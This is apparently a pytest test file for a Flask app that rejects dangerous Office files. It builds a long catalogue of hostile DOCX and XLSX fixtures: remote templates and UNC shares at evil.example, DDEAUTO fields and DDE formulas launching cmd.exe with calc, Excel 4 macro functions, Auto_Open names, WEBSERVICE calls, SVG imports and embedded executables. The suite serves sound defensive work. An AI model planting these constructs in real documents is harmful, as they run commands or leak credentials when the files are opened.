"""Office files that run or fetch something when they are opened: each is refused in a sentence that says what to do."""

from collections.abc import Callable, Mapping

import pytest
from flask import Flask

from app.web.office_files import UnusableFile, read
from tests.web.office_packages.files import (
    EXCEL,
    MICROSOFT,
    OFFICE,
    STRICT,
    TYPE,
    WORD,
    Content,
    Related,
    S,
    W,
    code,
    docx,
    field,
    formula,
    mark,
    packed,
    png,
    relationships,
    xlsx,
    zipped,
)

EVIL = "http://evil.example/t.dotm"
PROGRAM = b"MZ\x90\0"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACROS = f"{MICROSOFT}/2006/relationships/vbaProject"
SETTINGS = {"/word/settings.xml": f"{WORD}.settings+xml"}
CHART = {"/word/charts/chart1.xml": f"{TYPE}.drawingml.chart+xml", "xlsx": f"{TYPE}.spreadsheetml.sheet"}
LINKED = {"/xl/externalLinks/externalLink1.xml": f"{EXCEL}.externalLink+xml"}
DDE_LINK = (
    f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems>'
    "</ddeLink></externalLink>"
)


def of_settings(target: str, kind: str = "attachedTemplate", office: str = OFFICE) -> bytes:
    """A Word file whose settings lead out of the file."""
    return docx(
        "<w:p/>",
        ("settings", "settings.xml"),
        parts={
            "word/settings.xml": f'<w:settings {W}><w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": relationships((kind, target, "External"), office=office),
        },
        types=SETTINGS,
        office=office,
    )


def with_part(name: str, content: Content, kind: str = "", *related: Related) -> bytes:
    """A Word file with one part more."""
    return docx("<w:p/>", *related, parts={name: content}, types={f"/{name}": kind} if kind else {})


def charted(workbook: bytes) -> bytes:
    """A Word file with a chart that has this workbook."""
    chart = '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'
    return docx(
        "<w:p/>",
        ("chart", "charts/chart1.xml"),
        parts={
            "word/charts/chart1.xml": chart,
            "word/charts/_rels/chart1.xml.rels": relationships(("package", "../embeddings/Sheet.xlsx")),
            "word/embeddings/Sheet.xlsx": workbook,
        },
        types=CHART,
    )


def linked(link: str, *related: Related) -> bytes:
    """A workbook with a link to another, or to a program."""
    return xlsx(
        formula("[1]!A1"),
        book='<externalReferences><externalReference r:id="rId2"/></externalReferences>',
        book_related=(("externalLink", "externalLinks/externalLink1.xml"),),
        parts={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(*related),
        },
        types=LINKED,
    )


def drawn(svg: str) -> bytes:
    """A Word file with this drawing."""
    return with_part("word/media/a.svg", svg, "image/svg+xml")


def named(name: str, says: str) -> bytes:
    """A workbook with a name that says something."""
    return xlsx(book=f'<definedNames><definedName name="{name}">{says}</definedName></definedNames>')


def typed(name: str, content: bytes, kinds: Mapping[str, str]) -> bytes:
    """A Word file with a part of an ending that has a type."""
    return docx(parts={name: content}, types=kinds)


SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
ELSEWHERE, FIELD, EMBEDDED, MACRO = "từ nơi khác", "có trường", "đối tượng nhúng", "có macro"
FORMULA, WORKBOOK, LINK, OTHER = "có công thức", "lấy số từ tệp khác", "có đường dẫn", "không phải PDF"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    # templates of another machine
    "template of a page": (lambda: of_settings(EVIL), ELSEWHERE),
    "template of a page, strict": (lambda: of_settings(EVIL, office=STRICT), ELSEWHERE),
    "template of a page, of another maker": (
        lambda: of_settings(EVIL, "http://x.example/y/attachedTemplate"),
        ELSEWHERE,
    ),
    "template of a page, in capitals": (lambda: of_settings("HTTPS://EVIL.EXAMPLE/t.dotm"), ELSEWHERE),
    "template of a share": (lambda: of_settings(r"\\evil.example\s\t.dotm"), ELSEWHERE),
    "template of a share by slashes": (lambda: of_settings("//evil.example/s/t.dotm"), ELSEWHERE),
    "template of a file server": (lambda: of_settings("file://evil.example/s/t.dotm"), ELSEWHERE),
    "template of a share called a file": (lambda: of_settings(r"file:///\\evil.example\s\t.dotm"), ELSEWHERE),
    "template of a share, escaped": (lambda: of_settings("file:///%5C%5Cevil.example%5Ct.dotm"), ELSEWHERE),
    "template of a share by its device": (lambda: of_settings(r"\??\UNC\evil.example\s\t.dotm"), ELSEWHERE),
    "template by another program": (lambda: of_settings("mhtml:http://evil.example/t.dotm"), ELSEWHERE),
    "template inside by its address": (
        lambda: docx("<w:p/>", ("attachedTemplate", "http://evil.example/t.dotm")),
        ELSEWHERE,
    ),
    # what is taken in
    "page taken in": (
        lambda: docx(
            '<w:altChunk r:id="rId1"/>',
            ("aFChunk", "p.html"),
            parts={"word/p.html": "<html/>"},
            types={"html": "text/html"},
        ),
        "bên trong",
    ),
    "page taken in as XML": (
        lambda: docx('<w:altChunk r:id="rId1"/>', ("aFChunk", "p.xml"), parts={"word/p.xml": "<html/>"}),
        EMBEDDED,
    ),
    "another file taken in": (lambda: docx("<w:p/>", ("subDocument", "x.docx", "External")), ELSEWHERE),
    "frame": (lambda: of_settings(EVIL, "frame"), ELSEWHERE),
    "source of a letter to many": (lambda: of_settings("file:///C:/ds.xlsx", "mailMergeSource"), ELSEWHERE),
    "query of a letter to many": (
        lambda: with_part(
            "word/settings.xml",
            f'<w:settings {W}><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>',
            f"{WORD}.settings+xml",
        ),
        ELSEWHERE,
    ),
    "picture of a page": (lambda: docx("<w:p/>", ("image", "http://evil.example/x.png", "External")), ELSEWHERE),
    "picture of a page, mode in small letters": (
        lambda: docx("<w:p/>", ("image", "http://evil.example/x.png", "external")),
        ELSEWHERE,
    ),
    "picture of a share": (lambda: docx("<w:p/>", ("image", r"\\evil.example\x.png", "External")), ELSEWHERE),
    "picture of a shape": (
        lambda: docx('<w:p><w:r><w:pict><v:imagedata src="http://evil.example/x"/></w:pict></w:r></w:p>'),
        ELSEWHERE,
    ),
    "drawing that fetches": (
        lambda: with_part("word/media/a.svg", '<svg><image href="http://evil.example/x"/></svg>', "image/svg+xml"),
        ELSEWHERE,
    ),
    "drawing that runs": (lambda: drawn("<svg><script/></svg>"), MACRO),
    "drawing that runs when it is pressed": (
        lambda: drawn(f'<svg {SVG}><a x:href="javascript:alert(1)"/></svg>'),
        ELSEWHERE,
    ),
    "drawing with styles of a page": (
        lambda: drawn(f"<svg {SVG}><style>@import url(http://evil.example/a.css);</style></svg>"),
        ELSEWHERE,
    ),
    "drawing with styles of a page, quoted": (
        lambda: drawn(f"<svg {SVG}><style>p{{}} @IMPORT 'http://evil.example/a.css';</style></svg>"),
        ELSEWHERE,
    ),
    "drawing with styles of a page, escaped": (
        lambda: drawn(rf"<svg {SVG}><style>@\69mport 'http://evil.example/a.css';</style></svg>"),
        ELSEWHERE,
    ),
    "drawing with styles before it": (
        lambda: drawn(f'<?xml-stylesheet href="http://evil.example/a.css"?><svg {SVG}/>'),
        ELSEWHERE,
    ),
    "drawing with a font of a page": (
        lambda: drawn(f"<svg {SVG}><style>@font-face{{src:url('http://evil.example/a.woff')}}</style></svg>"),
        ELSEWHERE,
    ),
    "drawing with a picture of a page by its style": (
        lambda: drawn(f"<svg {SVG}><path style=\"fill:URL( 'http://evil.example/x#a' )\"/></svg>"),
        ELSEWHERE,
    ),
    "drawing with a picture of a share by its style": (
        lambda: drawn(f'<svg {SVG}><path style="cursor:image-set(&quot;//evil.example/x&quot; 1x)"/></svg>'),
        ELSEWHERE,
    ),
    "drawing filled by a page": (
        lambda: drawn(f'<svg {SVG}><path fill="url(http://evil.example/x#a)"/></svg>'),
        ELSEWHERE,
    ),
    "drawing filled by a page, escaped": (
        lambda: drawn(rf'<svg {SVG}><path fill="u\72l(http://evil.example/x#a)"/></svg>'),
        ELSEWHERE,
    ),
    "drawing whose places are a page's": (
        lambda: drawn(f'<svg {SVG} xml:base="http://evil.example/x"><use x:href="#a"/></svg>'),
        ELSEWHERE,
    ),
    "drawing that moves to a page": (
        lambda: drawn(f'<svg {SVG}><image><set attributeName="href" to="http://evil.example/x"/></image></svg>'),
        "có phần gọi tệp khác",
    ),
    "drawing within a drawing": (
        lambda: drawn(f'<svg {SVG}><image x:href="data:image/svg+xml,&lt;svg/&gt;"/></svg>'),
        ELSEWHERE,
    ),
    # fields
    "DDEAUTO": (lambda: docx(field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')), FIELD),
    "DDE": (lambda: docx(field("dde excel a b")), FIELD),
    "DDEAUTO over runs": (lambda: docx(field("DD", "EA", "UTO", " cmd")), FIELD),
    "DDEAUTO of one element": (lambda: docx('<w:p><w:fldSimple w:instr="DDEAUTO cmd a"/></w:p>'), FIELD),
    "DDEAUTO without a sign": (lambda: docx(f"<w:p>{code('DDEAUTO cmd a')}</w:p>"), FIELD),
    "DDEAUTO without an end": (lambda: docx(f"<w:p>{mark('begin')}{code('DDEAUTO cmd a')}</w:p>"), FIELD),
    "DDEAUTO that was deleted": (
        lambda: docx(f"<w:p>{mark('begin')}<w:del><w:r><w:delInstrText>DDE a b</w:delInstrText></w:r></w:del></w:p>"),
        FIELD,
    ),
    "DDEAUTO built by another field": (
        lambda: docx(f"<w:p>{mark('begin')}{field('IF 1 = 1 DDEAUTO')}{code(' cmd a')}{mark('end')}</w:p>"),
        FIELD,
    ),
    "DDEAUTO whose end another field builds": (
        lambda: docx(f"<w:p>{mark('begin')}{code('DD')}{field('SET a E')}{code(' cmd a')}{mark('end')}</w:p>"),
        FIELD,
    ),
    "DDEAUTO in a result": (
        lambda: docx(f"<w:p>{mark('begin')}{code('PAGE')}{mark('separate')}{code('DDE a b')}{mark('end')}</w:p>"),
        FIELD,
    ),
    "DDEAUTO in a header": (
        lambda: with_part("word/header1.xml", f"<w:hdr {W}>{field('DDEAUTO a b')}</w:hdr>", f"{WORD}.header+xml"),
        FIELD,
    ),
    "DDEAUTO in a part of no type of its own": (
        lambda: with_part("word/header1.xml", f"<w:hdr {W}>{field('DDEAUTO a b')}</w:hdr>"),
        FIELD,
    ),
    "INCLUDEPICTURE of a page": (lambda: docx(field('INCLUDEPICTURE "http://evil.example/x.png" \\d')), FIELD),
    "INCLUDEPICTURE in other quotes": (lambda: docx(field("INCLUDEPICTURE “http://evil.example/x.png”")), FIELD),
    "INCLUDEPICTURE of a share": (lambda: docx(field(r'INCLUDEPICTURE "\\\\evil.example\\x.png"')), FIELD),
    "INCLUDEPICTURE of a field": (
        lambda: docx(
            f"<w:p>{mark('begin')}{code('INCLUDEPICTURE ')}{field('MERGEFIELD a')}{code(' ')}{mark('end')}</w:p>"
        ),
        FIELD,
    ),
    "INCLUDETEXT": (lambda: docx(field("INCLUDETEXT x.docx")), FIELD),
    "LINK": (lambda: docx(field(r"LINK Excel.Sheet.12 C:\\a.xlsx")), FIELD),
    "DATABASE": (lambda: docx(field("DATABASE \\c x")), FIELD),
    "HYPERLINK to a program": (lambda: docx(field(r'HYPERLINK "file:///C:/x.exe"')), FIELD),
    # what runs
    "macro by its name": (lambda: with_part("word/vbaProject.bin", OLE, "application/vnd.ms-office.vbaProject"), MACRO),
    "macro by another name": (
        lambda: docx(
            "<w:p/>",
            (MACROS, "theme/notes.bin"),
            parts={"word/theme/notes.bin": OLE},
            types={"bin": "application/vnd.ms-office.vbaProject"},
            main="application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        MACRO,
    ),
    "macro called a printer": (
        lambda: xlsx(
            book_related=((MACROS, "a.bin"),),
            parts={"xl/a.bin": b"x"},
            types={"bin": f"{EXCEL}.printerSettings"},
        ),
        MACRO,
    ),
    "main part with macros alone": (
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACRO,
    ),
    "workbook with macros alone": (lambda: xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), MACRO),
    "sheet of macros": (
        lambda: xlsx(
            book_related=((f"{MICROSOFT}/2006/relationships/xlMacrosheet", "m.xml"),),
            parts={"xl/m.xml": f"<a {S}/>"},
            types={"/xl/m.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        MACRO,
    ),
    "ActiveX": (
        lambda: with_part(
            "word/activeX/a.xml", "<a/>", "application/vnd.ms-office.activeX+xml", ("control", "activeX/a.xml")
        ),
        MACRO,
    ),
    "ActiveX by its relationship": (lambda: with_part("word/a.xml", "<a/>", "", ("control", "a.xml")), MACRO),
    "buttons of its own": (
        lambda: with_part(
            "customUI/a.xml", "<a/>", "", (f"{MICROSOFT}/2007/relationships/ui/extensibility", "../customUI/a.xml")
        ),
        MACRO,
    ),
    "program of the web": (
        lambda: with_part("word/a.xml", "<a/>", "application/vnd.ms-office.webextension+xml"),
        MACRO,
    ),
    "program": (lambda: with_part("word/media/setup.exe", PROGRAM), MACRO),
    "program with a type": (lambda: typed("word/media/setup.exe", png(), {"exe": "image/png"}), MACRO),
    "program called a picture": (lambda: typed("word/media/a.png", PROGRAM, {"png": "image/png"}), "có hình không đọc"),
    "program called a font": (
        lambda: typed("word/fonts/a.odttf", PROGRAM, {"odttf": f"{TYPE}.obfuscatedFont"}),
        "không rõ là gì",
    ),
    "part of a type that nobody knows": (
        lambda: with_part("word/a.xml", "<a/>", "application/vnd.evil.loader+xml"),
        "không rõ là gì",
    ),
    "part of no type": (lambda: with_part("word/media/notes.dat", b"x"), "không rõ là gì"),
    # other files and their objects
    "OLE object": (
        lambda: typed("word/embeddings/a.bin", OLE, {"bin": f"{TYPE}.oleObject"}),
        EMBEDDED,
    ),
    "OLE object by its relationship": (
        lambda: docx(
            "<w:p/>",
            ("oleObject", "embeddings/a.png"),
            parts={"word/embeddings/a.png": png()},
            types={"png": "image/png"},
        ),
        EMBEDDED,
    ),
    "OLE object by its element": (lambda: docx("<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>"), EMBEDDED),
    "OLE link": (lambda: docx("<w:p/>", ("oleObject", "file:///C:/a.xlsx", "External")), ELSEWHERE),
    "object in a sheet": (
        lambda: xlsx(after='<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>'),
        EMBEDDED,
    ),
    "older file": (lambda: typed("word/embeddings/a.xls", OLE, {"xls": "application/vnd.ms-excel"}), EMBEDDED),
    "Word file in a chart": (lambda: charted(docx()), EMBEDDED),
    "what runs behind a chart": (lambda: charted(xlsx(formula("cmd|'/c calc'!A1"))), FORMULA),
    "what links behind a chart": (lambda: charted(linked(DDE_LINK)), WORKBOOK),
    "no workbook behind a chart": (lambda: charted(PROGRAM), "bị hỏng"),
    "file in a file in a file": (
        lambda: charted(xlsx(parts={"xl/a.xlsx": xlsx()}, types={"xlsx": f"{TYPE}.spreadsheetml.sheet"})),
        EMBEDDED,
    ),
    # workbooks
    "DDE in a formula": (lambda: xlsx(formula("cmd|'/c calc'!A1")), FORMULA),
    "DDE in a formula, quoted": (lambda: xlsx(formula("+'cmd'|'/c calc'!'A1'")), FORMULA),
    "DDE in a formula, behind quotes": (lambda: xlsx(formula("""T[a"b]+cmd|'/c calc'!A1&"x\"""")), FORMULA),
    "DDE in a formula of text": (lambda: xlsx(formula("""'a"b'!A1+cmd|'/c calc'!A1&"z\"""")), FORMULA),
    "DDE in a name": (
        lambda: xlsx(book="<definedNames><definedName name=\"a\">cmd|'/c calc'!A1</definedName></definedNames>"),
        FORMULA,
    ),
    "DDE in a validation": (
        lambda: xlsx(
            after="<dataValidations><dataValidation><formula1>cmd|'/c calc'!A1</formula1></dataValidation>"
            "</dataValidations>"
        ),
        FORMULA,
    ),
    "function that fetches": (lambda: xlsx(formula('_xlfn.WEBSERVICE("http://evil.example/"&A2)')), FORMULA),
    "picture by a function": (lambda: xlsx(formula('_xlfn.IMAGE("http://evil.example/x.png")')), FORMULA),
    "text of a page": (lambda: xlsx(formula('_xlfn.IMPORTTEXT("http://evil.example/a.txt")')), FORMULA),
    "table of a page": (lambda: xlsx(formula('SUM(_xlfn.IMPORTCSV ("http://evil.example/a.csv"))')), FORMULA),
    "prices of an exchange": (lambda: xlsx(formula('_xlfn.STOCKHISTORY("MSFT",TODAY())')), FORMULA),
    "program of Python": (lambda: xlsx(formula("_xlfn._xlws.PY(0,1)")), FORMULA),
    "words for another's machine": (lambda: xlsx(formula('_xlfn.TRANSLATE(A1,"en","vi")')), FORMULA),
    "function of an add-in": (lambda: xlsx(formula('_xll.LOAD("x")')), FORMULA),
    "function that nobody knows": (lambda: xlsx(formula("IF(A1>1,KHAC(A2),0)")), FORMULA),
    "function of Excel 4 in a name": (lambda: named("a", r"FILES(&quot;\\evil.example\share\*&quot;)"), FORMULA),
    "function of Excel 4 in a name, in small letters": (lambda: named("a", "run(&quot;x&quot;)"), FORMULA),
    "function of Excel 4 in a rule": (
        lambda: xlsx(
            after="<conditionalFormatting><cfRule><formula>GET.WORKSPACE(1)</formula></cfRule></conditionalFormatting>"
        ),
        FORMULA,
    ),
    "function of Excel 4 in a scale of colours": (
        lambda: xlsx(
            after='<cfRule><colorScale><cfvo type="formula" val="EXEC(&quot;calc&quot;)"/></colorScale></cfRule>'
        ),
        FORMULA,
    ),
    "name that runs when the workbook opens": (lambda: named("_xlnm.Auto_Open", "Sheet1!$A$1"), FORMULA),
    "name that runs when the workbook closes": (lambda: named("Auto_Close_2", "Sheet1!$A$1"), FORMULA),
    "workbook of a share by slashes in a formula": (lambda: xlsx(formula("'//evil.example/s/[b.xlsx]S'!A1")), WORKBOOK),
    "name of a share by slashes in a formula": (lambda: xlsx(formula("'//evil.example/s/b''x.xlsx'!Gia")), FORMULA),
    "workbook of a share by slashes in a name": (lambda: named("a", "'//evil.example/s/[b.xlsx]S'!$A$1"), WORKBOOK),
    "workbook of a share in a chart": (
        lambda: xlsx(
            parts={"xl/charts/chart1.xml": "<a><f>'//evil.example/s/[b.xlsx]S'!$A$1</f></a>"},
            types={"/xl/charts/chart1.xml": f"{TYPE}.drawingml.chart+xml"},
        ),
        WORKBOOK,
    ),
    "another workbook in a formula": (lambda: xlsx(formula("SUM([b.xlsx]S!A1:A9)")), WORKBOOK),
    "name of another workbook in a formula": (lambda: xlsx(formula("[1]!Gia")), WORKBOOK),
    "workbook of a page in a formula": (lambda: xlsx(formula("'http://evil.example/[a.xlsx]S'!A1")), WORKBOOK),
    "workbook of a share in a formula": (lambda: xlsx(formula(r"'\\evil.example\[a.xlsx]S'!A1")), WORKBOOK),
    "DDE link": (lambda: linked(DDE_LINK), WORKBOOK),
    "link to another workbook": (
        lambda: linked(
            f'<externalLink {S}><externalBook r:id="rId1"/></externalLink>',
            ("externalLinkPath", "http://evil.example/a.xlsx", "External"),
        ),
        WORKBOOK,
    ),
    "link called otherwise": (
        lambda: xlsx(parts={"xl/a.xml": DDE_LINK}, types={"/xl/a.xml": f"{EXCEL}.styles+xml"}),
        WORKBOOK,
    ),
    "database": (
        lambda: xlsx(
            book_related=(("connections", "connections.xml"),),
            parts={"xl/connections.xml": f"<connections {S}/>"},
            types={"/xl/connections.xml": f"{EXCEL}.connections+xml"},
        ),
        WORKBOOK,
    ),
    # links
    "link to a program": (lambda: docx("<w:p/>", ("hyperlink", "file:///C:/x.exe", "External")), LINK),
    "link to a share": (lambda: xlsx("", ("hyperlink", r"\\evil.example\x", "External")), LINK),
    "link that runs": (lambda: docx("<w:p/>", ("hyperlink", "javascript:alert(1)", "External")), LINK),
    "link to a program of the system": (
        lambda: docx("<w:p/>", ("hyperlink", "ms-word:ofe|u|http://x", "External")),
        LINK,
    ),
    # what hides what a file is
    "entities": (
        lambda: docx(parts={"word/document.xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "bị hỏng",
    ),
    "other letters": (
        lambda: docx(parts={"word/document.xml": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")}),
        "bị hỏng",
    ),
    "deep XML": (lambda: docx("<w:p>" * 5000 + "</w:p>" * 5000), "bị hỏng"),
    "two parts of one name": (lambda: docx(parts={"WORD/document.xml": "<a/>"}), "bị hỏng"),
    "relationships of no type": (lambda: docx(types={"rels": "application/xml"}), "bị hỏng"),
    "relationships called otherwise": (lambda: docx(parts={"word/a.xml": relationships()}), "bị hỏng"),
    "no content types": (lambda: packed({"[Content_Types].xml": "<a/>"}, {}), "bị hỏng"),
    "too many parts": (lambda: docx(parts={f"word/{n}.xml": "<a/>" for n in range(2001)}), "bung ra lớn quá"),
    # other kinds
    "slides": (
        lambda: packed(
            {"_rels/.rels": relationships(("officeDocument", "ppt/presentation.xml")), "ppt/presentation.xml": "<a/>"},
            {"/ppt/presentation.xml": f"{TYPE}.presentationml.presentation.main+xml"},
        ),
        OTHER,
    ),
    "file of OpenDocument": (lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}), OTHER),
    "main part that nothing names": (lambda: docx(parts={"_rels/.rels": relationships()}), OTHER),
    "older Word file": (lambda: OLE + bytes(600), OTHER),
}


@pytest.mark.parametrize(("file", "why"), HOSTILE.values(), ids=HOSTILE)
def test_a_file_that_runs_or_fetches_is_refused_in_a_sentence(app: Flask, file: Callable[[], bytes], why: str) -> None:
    with app.app_context(), pytest.raises(UnusableFile, match=why) as refused:
        read(file())
    assert "Anh chị" in refused.value.message
    assert "%(" not in refused.value.message
